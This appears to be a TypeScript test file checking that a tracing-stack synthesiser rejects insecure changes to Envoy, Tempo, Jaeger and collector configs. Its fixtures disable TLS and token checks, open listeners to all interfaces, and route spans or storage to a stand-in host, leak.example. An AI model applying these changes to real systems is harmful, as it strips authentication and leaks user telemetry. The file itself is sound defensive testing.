import { makeInputs } from "../../bin/inputs";
import { config as company } from "../fixtures/company";
import { alter, type Config, finished, override } from "./finished";

type Change = (config: Config) => void;

const { signIn: _, ...identity } = company.access.identity ?? {};

/** One environment that people read and whose spans also go outside. */
const read = (store: "tempo" | "jaeger") =>
  makeInputs({
    kit: {
      ...{ name: "harbour", region: "eu-central-1", store: { kind: store } },
      ...{ network: { egress: "internet" }, people: { identityProvider: "egress" } },
    },
    environments: { prod: {} },
    access: {
      teams: [{ id: "billing", services: ["billing-mcp"] }],
      audiences: [{ id: "security", groups: ["acme-security"] }],
      grants: [{ audience: "security", environments: "all", teams: "all", reads: ["traces", "metrics"] }],
      // Without `signIn` there is no Grafana, which none of this is about.
      identity,
      exportTargets: company.access.exportTargets,
    },
  });

const chain = (config: Config) => config.static_resources.listeners[0].filter_chains[0];
const tls = (config: Config) => chain(config).transport_socket.typed_config;
const manager = (config: Config) => chain(config).filters.at(-1).typed_config;
const tokens = (config: Config) => manager(config).http_filters[0].typed_config;
const withoutTls: Change = (config) => delete chain(config).transport_socket;
const unnamed = { "@type": "type.googleapis.com/envoy.extensions.filters.http.jwt_authn.v3.JwtAuthentication" };

/** What is changed after an installation was finished, in which file, and the rule that must tell it. */
const withTempo: readonly (readonly [string, string, Change, string])[] = [
  [
    "a gateway for servers that asks for no certificate, and whose filter for tokens has no rule",
    "ingest-gateway.json",
    (config) => {
      tls(config).require_client_certificate = false;
      manager(config).http_filters.unshift({ name: "envoy.filters.http.jwt_authn", typed_config: unnamed });
    },
    "UnauthenticatedOtlp",
  ],
  [
    "a gateway for servers that takes certificates they made themselves",
    "ingest-gateway.json",
    (config) => {
      tls(config).common_tls_context.validation_context = {};
    },
    "UnauthenticatedOtlp",
  ],
  ["a store door without TLS", "store-door.json", withoutTls, "UnprovenCaller"],
  ["a detector door without TLS", "detector-door.json", withoutTls, "UnprovenCaller"],
  [
    "a query gateway without TLS, tokens and rules",
    "query-gateway.json",
    (config) => {
      withoutTls(config);
      const { http_filters: filters } = manager(config);
      manager(config).http_filters = filters.filter(({ name }: Config) => !/jwt_authn|rbac/.test(name));
    },
    "UnprovenCaller",
  ],
  [
    "a query gateway that lets pass who has no token",
    "query-gateway.json",
    (config) => {
      tokens(config).rules = [{ match: { prefix: "/" }, requires: { allow_missing: {} } }];
    },
    "UnprovenCaller",
  ],
  [
    "a query gateway whose routes' rules nobody reads",
    "query-gateway.json",
    (config) => {
      const { http_filters: filters } = manager(config);
      manager(config).http_filters = filters.filter(({ name }: Config) => !name.endsWith(".rbac"));
    },
    "UnprovenCaller",
  ],
  [
    "a metrics gateway that asks Grafana for nothing",
    "metrics-gateway.json",
    ({ static_resources }) => {
      const alerting = static_resources.listeners.find(({ name }: Config) => name === "metrics-alerting");
      alerting.filter_chains[0].transport_socket.typed_config.require_client_certificate = false;
    },
    "UnprovenCaller",
  ],
  [
    "Tempo that names no address",
    "tempo.yaml",
    ({ server }) => {
      delete server.http_listen_address;
      delete server.grpc_listen_address;
    },
    "StoreReachable",
  ],
  [
    "a detector that takes spans from everybody",
    "detector.yaml",
    ({ receivers }) => {
      receivers.otlp.protocols.grpc.endpoint = "0.0.0.0:14318";
    },
    "UnauthenticatedOtlp",
  ],
  [
    "a detector that sends on what it gets",
    "detector.yaml",
    (config) => {
      config.exporters["otlp_http/leak"] = { endpoint: "https://leak.example" };
      config.service.pipelines["traces/detect"].exporters.push("otlp_http/leak");
    },
    "UnscrubbedExport",
  ],
  [
    "a detector that sends on what it gets, under the name of what it gets it by",
    "detector.yaml",
    (config) => {
      config.exporters.otlp = { endpoint: "leak.example:443" };
      config.service.pipelines["traces/detect"].exporters.push("otlp");
    },
    "UnscrubbedExport",
  ],
  [
    "Tempo that forwards spans",
    "tempo.yaml",
    ({ distributor }) => {
      distributor.forwarders = [{ name: "leak", backend: "otlpgrpc", otlpgrpc: { endpoints: ["leak.example:443"] } }];
    },
    "UnscrubbedExport",
  ],
  [
    "Tempo that keeps spans in another bucket",
    "tempo.yaml",
    ({ storage }) => {
      storage.trace.s3.endpoint = "s3.leak.example";
    },
    "UnscrubbedExport",
  ],
  [
    "a scrubber that looks for nothing",
    "collector.yaml",
    ({ processors }) => {
      processors["scrub/target.vendor"].keys = [];
    },
    "UnscrubbedExport",
  ],
  [
    "a scrubber that keeps what users typed",
    "collector.yaml",
    ({ processors }) => processors["scrub/target.vendor"].keep.push({ name: "input.value", type: "string" }),
    "UnscrubbedExport",
  ],
  [
    "a scrubber in front of detectors that leaves more than labels",
    "collector.yaml",
    ({ processors }) => {
      processors["scrub/labels"].mode = "patterns";
    },
    "UnscrubbedExport",
  ],
];

const withJaeger: typeof withTempo = [
  [
    "Jaeger that sends spans on",
    "jaeger.yaml",
    (config) => {
      config.exporters["otlp_http/leak"] = { endpoint: "https://leak.example" };
      config.service.pipelines["traces/prod.billing"].exporters.push("otlp_http/leak");
    },
    "UnscrubbedExport",
  ],
  [
    "Jaeger that keeps spans in another database",
    "jaeger.yaml",
    ({ extensions }) => {
      extensions.jaeger_storage.backends["prod.billing"].opensearch.server_urls = ["https://leak.example"];
    },
    "UnscrubbedExport",
  ],
  [
    "Jaeger that names no address for its queries",
    "jaeger.yaml",
    ({ extensions }) => delete extensions["jaeger_query/prod.billing"].http,
    "StoreReachable",
  ],
];

describe.each([
  ["tempo", withTempo],
  ["jaeger", withJaeger],
] as const)("with %s", (store, mutations) => {
  test("what nobody changed synthesizes", () => {
    expect(() => finished(read(store)).app.synth()).not.toThrow();
  });

  test.each(mutations)("%s makes synthesis fail", (_, file, change, rule) => {
    const installation = finished(read(store));
    alter(file, change)(installation);
    expect(() => installation.app.synth()).toThrow(new RegExp(`TraceSecurity-${rule}\\b`));
  });
});

test("Tempo that a flag tells to listen to all makes synthesis fail", () => {
  const installation = finished(read("tempo"));
  const words = ["-server.http-listen-address=0.0.0.0"];
  override("AWS::ECS::TaskDefinition", "ContainerDefinitions.0.Command", words)(installation);
  expect(() => installation.app.synth()).toThrow(/TraceSecurity-JudgedConfiguration\b/);
});
